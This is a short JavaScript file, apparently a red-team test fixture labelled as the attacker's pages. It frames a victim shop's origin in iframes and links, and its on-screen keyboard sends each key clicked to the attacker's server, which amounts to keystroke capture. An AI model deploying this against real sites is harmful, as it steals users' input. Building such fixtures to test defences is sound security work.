// Red team 4: the attacker's pages. ?shop= is the shop's origin (the user's site).
const query = new URLSearchParams(location.search);
const shop = query.get('shop') ?? '';
for (const frame of document.querySelectorAll('iframe[data-shop-frame]')) frame.src = `${shop}${frame.dataset.shopFrame}`;
for (const link of document.querySelectorAll('a[data-shop-link]')) link.href = `${shop}${link.dataset.shopLink}`;
// An on-screen keyboard: each key tells the server.
for (const key of document.querySelectorAll('[data-key]')) {
  key.addEventListener('click', () => { fetch(`/k?c=${encodeURIComponent(key.dataset.key)}`).catch(() => {}); });
}
// Shown again (from the back/forward cache): tells the server.
addEventListener('pageshow', (event) => { if (event.persisted) fetch(`/shown-again?at=${Date.now()}`).catch(() => {}); });
